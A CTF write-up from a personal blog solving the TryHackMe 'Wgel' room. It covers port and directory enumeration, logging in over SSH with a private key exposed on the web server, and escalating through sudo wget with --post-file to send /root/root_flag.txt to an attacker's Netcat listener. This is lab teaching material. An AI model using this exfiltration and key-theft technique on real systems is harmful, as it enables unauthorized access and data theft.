Planet DesKel

DesKel's official page for CTF write-up, Electronic tutorial, review and etc.

12 August 2020

THM write-up: Wgel CTF3 minutes to read



Howdy there, welcome to another THM CTF challenge. Today, we are going to walk through a wget privilege escalation style CTF, just like the title suggests. This room is created by good old mrseth who in charge of the tweety and boiler CTF room. Always put the hint on the title. For me, this room is quite simple providing you are not overthinking again. Without further ado, let’s dig the hole.

Task 1: Capture the flags

Like the same old way, capture both user and root flags.

Task 1-2: User flag

First and foremost, enumerate the open port using Nmap scanner

nmap -A -v <Machine IP>


Look like we have two ports open wide in the machine which is Port 22 (SSH) and Port 80 (HTTP). Since we are not sure about the Port 22, Port 80 might be the only way in.At first glance, this is just a normal apache2 default page. If you are a web developer or someone who makes use of the hacking apache page, you will notice something missing on the file table list. I’m highly suspected this page is tempered. Checking the source code of the page yield the following result.


Jessie huh? take note of that. After that, enumerate the site using gobuster for the hidden directory.

gobuster dir -u <Machine IP> -w /usr/share/dirb/wordlists/common.txt


Gotcha! We got a /sitemap directory. Exploiting the site won’t give us any information we need. Let’s perform another recursive search.

gobuster dir -u http://<Machine IP>/sitemap -w /usr/share/dirb/wordlists/common.txt


A hidden ssh directory? Let’s check it out.


Well, well, well, look what we got here, an RSA private key. Time to call Mr.john!


Hold your horse, no password for the private key? Cool, that makes thing simple. Alright lad, time to login into Jessie’s ssh with the private key.

ssh -i id_rsa jessie@<Machine IP>


That’s it, we are inside Jessie’s SSH shell but where is the flag?

Don’t be a lazy bum, find the flag.

Task 1-2: Root flagTime for the root flag. Let see what can jussie do with sudo?


Since we do not have the password to escalate as a superuser. The only way we can do is the wget privilege escalation. After a short search, I come across thisarticle. Firstly, we need toopen a port using Netcat.

nc -lvnp 4445

After that, punch in the following command in the Jessie ssh shell. The name of the flag file is root_flag.txt, just like the user one. The tunnel IP is your access IP.

sudo /usr/bin/wget --post-file=/root/root_flag.txt http://<Tunnel IP>:4445


Bingo, we just captured the root flag.


That’s all for the wgel CTF write-up. Another Linux Sudo command privilege escalation.Hope you learn somethingnew today. Cheer! ;)

tags: tryhackme - CTF - recon - privilege_escalate

Thanks for reading. Follow mytwitter for latest updateIf you like this post, consider asmall donation. Muchappreciated. :)


© 2020 DesKel